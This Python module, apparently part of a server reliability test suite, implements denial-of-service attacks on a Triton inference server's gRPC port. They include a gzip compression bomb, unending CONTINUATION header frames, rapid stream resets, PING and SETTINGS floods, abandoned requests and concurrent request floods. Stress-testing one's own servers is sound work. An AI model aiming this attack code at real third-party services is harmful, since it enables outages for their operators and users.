"""Attack Triton's gRPC port with compression bombs, frames and floods.

Each attack takes an AttackRun and returns the number of answers of each kind.
"""

from __future__ import annotations

import time
from collections import Counter

import grpc
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc import service_pb2_grpc as rpc

from bench.servers import statistics
from reliability import http2
from reliability.attacks_http import packed
from reliability.http2 import END_HEADERS, Connection, frame
from reliability.impact import AttackRun

_STEPS = 10  # solver steps of a request that takes some time
_SEND_SECONDS = 1.0  # limit until the server accepts data or closes the connection


def bomb(run: AttackRun) -> Counter[str]:
    """Send a mask of `amount` MiB that is compressed with gzip."""
    request = pb.ModelInferRequest(model_name="mini")
    request.inputs.add(name="mask", datatype="UINT8", shape=[run.amount << 20, 1, 1])
    length, varint = run.amount << 20, b""
    while length >= 128:
        varint += bytes([length % 128 + 128])
        length //= 128
    # raw_input_contents of KServe's message is the field 7 with a length.
    prefix = request.SerializeToString() + bytes([7 << 3 | 2]) + varint + bytes([length])
    message = packed(run.amount, "gzip", prefix)
    connection = Connection(run.server.grpc)
    try:
        connection.call(1, message, b"gzip")
        return Counter([connection.answer(1)])
    except OSError:
        return Counter(["closed"])
    finally:
        connection.close()


def endless_head(run: AttackRun) -> Counter[str]:
    """Send headers of `amount` MB in CONTINUATION frames, but not the last frame."""
    block = http2.header(b"x-header", b"y" * 16000)
    return _send(
        run,
        frame(http2.HEADERS, 0, 1, http2.grpc_headers()),
        [frame(http2.CONTINUATION, 0, 1, block)] * (run.amount * 64),
    )


def resets(run: AttackRun) -> Counter[str]:
    """Open `amount` streams and reset each stream at once."""
    block = http2.grpc_headers()
    streams = range(1, 2 * run.amount, 2)
    parts = [
        frame(http2.HEADERS, END_HEADERS, stream, block)
        + frame(http2.RESET, 0, stream, (8).to_bytes(4, "big"))
        for stream in streams
    ]
    return _send(run, b"", parts)


def pings(run: AttackRun) -> Counter[str]:
    """Send `amount` pings."""
    return _send(run, b"", [frame(http2.PING, 0, 0, bytes(8))] * run.amount)


def settings(run: AttackRun) -> Counter[str]:
    """Send `amount` SETTINGS frames; the server must acknowledge each frame."""
    return _send(run, b"", [frame(http2.SETTINGS, 0, 0)] * run.amount)


def _send(run: AttackRun, first: bytes, parts: list[bytes]) -> Counter[str]:
    """Send frames without reading answers; return their number and the end of the connection."""
    connection = Connection(run.server.grpc)
    frame_count = 0
    try:
        connection.socket.settimeout(_SEND_SECONDS)
        connection.socket.sendall(first)
        for at in range(0, len(parts), 100):
            connection.socket.sendall(b"".join(parts[at : at + 100]))
            frame_count += len(parts[at : at + 100])
        run.hold()
        outcome = connection.answer(0)
    except TimeoutError:
        outcome = "kept waiting"
    except OSError:
        outcome = "closed"
    finally:
        connection.close()
    return Counter({"frames sent": frame_count, outcome: 1})


def _request() -> pb.ModelInferRequest:
    request = pb.ModelInferRequest(model_name="mini")
    for name, values in (("size", [32, 32, 32]), ("steps", [_STEPS])):
        contents = pb.InferTensorContents(int_contents=values)
        request.inputs.add(name=name, datatype="INT32", shape=[len(values)], contents=contents)
    return request


def leave(run: AttackRun) -> Counter[str]:
    """Send `amount` requests for a volume, and disconnect while they run or wait.

    The statistics of the ensemble count the volumes that were made without a client, because only
    attackers call the ensemble.
    """
    message, before = _request().SerializeToString(), statistics(run.server.grpc)["mini"]
    connections = [Connection(run.server.grpc) for _ in range(run.amount)]
    for connection in connections:
        connection.call(1, message)
    run.hold()
    for connection in connections:
        connection.close()
    deadline, count = time.monotonic() + http2.LONGEST, 0
    while count < run.amount and time.monotonic() < deadline:
        time.sleep(0.1)
        counts = statistics(run.server.grpc)["mini"].since(before)
        count = counts.answered + counts.failed
    return Counter({"done for nobody": counts.answered, "not done": run.amount - counts.answered})


def flood(run: AttackRun) -> Counter[str]:
    """Send `amount` concurrent requests for a volume."""
    with grpc.insecure_channel(run.server.grpc) as channel:
        infer = rpc.GRPCInferenceServiceStub(channel).ModelInfer
        calls = [infer.future(_request(), timeout=http2.LONGEST) for _ in range(run.amount)]
        return Counter(call.code().name for call in calls)
